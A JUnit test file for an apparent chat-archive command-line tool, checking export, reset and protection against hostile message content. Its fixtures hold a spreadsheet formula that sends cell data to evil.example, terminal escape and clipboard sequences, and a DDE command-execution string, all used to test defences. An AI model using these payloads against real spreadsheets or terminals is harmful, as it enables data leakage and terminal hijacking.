package org.avatarengine.app.command;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.avatarengine.app.command.CommandLineTest.Ran;
import org.avatarengine.app.print.ScreenWriter;
import org.avatarengine.text.FormulaGuard;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Export and reset, and that messages from other people cannot control a terminal or a spreadsheet. */
class KeepCommandsTest {
    private static final String ESCAPE = "\u001b";

    @TempDir
    Path folder;

    private Path data;

    @BeforeEach
    void fill() throws Exception {
        data = folder.resolve("data");
        Path chat = Files.writeString(
                folder.resolve("WhatsApp Chat with Mallory.txt"), """
                13/05/2024, 18:30 - Mallory: =HYPERLINK("http://evil.example/?x="&A1,"look")
                13/05/2024, 18:31 - Mallory: clear %s[2J%s]0;owned\u0007 and %s]52;c;ZXZpbA==\u0007 done
                13/05/2024, 18:32 - Sam: fine, "thanks"
                """.formatted(ESCAPE, ESCAPE, ESCAPE));
        assertThat(avatar("import", chat).code()).isZero();
    }

    private Ran avatar(Object... args) {
        return CommandLineTest.avatar(java.util.stream.Stream.concat(
                        java.util.Arrays.stream(args), java.util.stream.Stream.of("--data", data))
                .toArray());
    }

    @Test
    void anExportHoldsEverythingAndCanBeImported() throws Exception {
        Path out = folder.resolve("out");
        Ran ran = avatar("export", out, "--everything", "--json");
        assertThat(ran.code()).as(ran.err()).isZero();
        assertThat(ran.json().path("written").path("messages.csv").asInt()).isEqualTo(3);
        assertThat(ran.json().path("written").path("graph/nodes.jsonl").asInt()).isGreaterThan(6);
        assertThat(Files.readAllLines(out.resolve("graph/relationships.jsonl")))
                .anyMatch(line -> line.contains("\"type\":\"SENT_TO\""));
        assertThat(out.resolve("files/audit.jsonl")).exists();
        assertThat(out.resolveSibling("out.part")).doesNotExist();
        String csv = Files.readString(out.resolve("messages.csv"));
        assertThat(csv)
                .contains("\"'=HYPERLINK(")
                .doesNotContain("\"=HYPERLINK(")
                .contains("\"fine, \"\"thanks\"\"\"");
        // The export can be imported again.
        Ran again = CommandLineTest.avatar(
                "import", out.resolve("messages.csv"), "--data", folder.resolve("second"), "--json");
        assertThat(again.json().path("newMessages").asInt()).as(again.err()).isEqualTo(3);
        Ran refused = avatar("export", out);
        assertThat(refused.code()).isEqualTo(1);
        assertThat(refused.err()).contains("exists and is not empty");
        assertThat(avatar("export", data.resolve("inside")).err()).contains("is inside the data folder");
    }

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx", "\uFF1D1"})
    void noCellIsAFormula(String text) {
        assertThat(FormulaGuard.protect(text)).isEqualTo("'" + text);
    }

    @ParameterizedTest
    @ValueSource(strings = {"hello", "+12125550147", "-12.5", "a=b", ""})
    void otherCellsAreUnchanged(String text) {
        assertThat(FormulaGuard.protect(text)).isEqualTo(text);
    }

    @Test
    void aResetShowsWhatItWouldDeleteAndThenDeletesIt() throws Exception {
        Ran shown = avatar("reset", "--dry-run", "--json");
        assertThat(shown.json().path("wouldDelete").findValuesAsString("name")).contains("graph");
        assertThat(data.resolve("graph")).isDirectory();
        Ran asked = avatar("reset");
        assertThat(asked.code()).isEqualTo(1);
        assertThat(asked.err()).contains("add --yes");
        assertThat(data.resolve("graph")).isDirectory();
        // Leftovers of a process that was killed during a reset are deleted, too.
        Files.createDirectories(data.resolve(".resetting/graph"));
        Ran done = avatar("reset", "--yes");
        assertThat(done.code()).as(done.err()).isZero();
        try (var left = Files.list(data)) {
            assertThat(left.map(path -> path.getFileName().toString()))
                    .containsExactlyInAnyOrder("audit.jsonl", ".in-use", "avatar-data.json");
        }
        Ran audit = avatar("audit", "--json");
        assertThat(audit.out()).as(audit.err()).contains("reset");
        assertThat(avatar("stats", "--json")
                        .json()
                        .path("nodes")
                        .get(0)
                        .path("count")
                        .asInt())
                .isZero();
    }

    /** A message in a table or in a search result cannot control the terminal. */
    @Test
    void aMessageCannotControlTheTerminal() {
        for (List<String> command : List.of(
                List.of("query", "MATCH (m:Message) RETURN m.text AS text ORDER BY m.sentAt"),
                List.of("recall", "Mallory", "clear done"))) {
            Ran ran = avatar(command.toArray());
            assertThat(ran.code()).as(ran.err()).isZero();
            assertThat(ran.out()).contains("clear").doesNotContain(ESCAPE, "\u0007");
        }
    }

    @Test
    void onlySequencesOfTheProgramReachTheScreen() throws Exception {
        StringWriter screen = new StringWriter();
        try (ScreenWriter writer = new ScreenWriter(screen)) {
            writer.write(ESCAPE + "[1mbold" + ESCAPE + "[0m\n\ttab ");
            writer.write('\r');
            writer.write(ESCAPE + "[Kline\r\n");
            writer.write(ESCAPE + "[2J" + ESCAPE + "]0;title\u0007\u009b31m\rover");
        }
        assertThat(screen.toString())
                .isEqualTo(ESCAPE + "[1mbold" + ESCAPE + "[0m\n\ttab \r" + ESCAPE + "[Kline\r\n"
                        + "\uFFFD[2J\uFFFD]0;title\uFFFD\uFFFD31m\uFFFDover");
    }
}
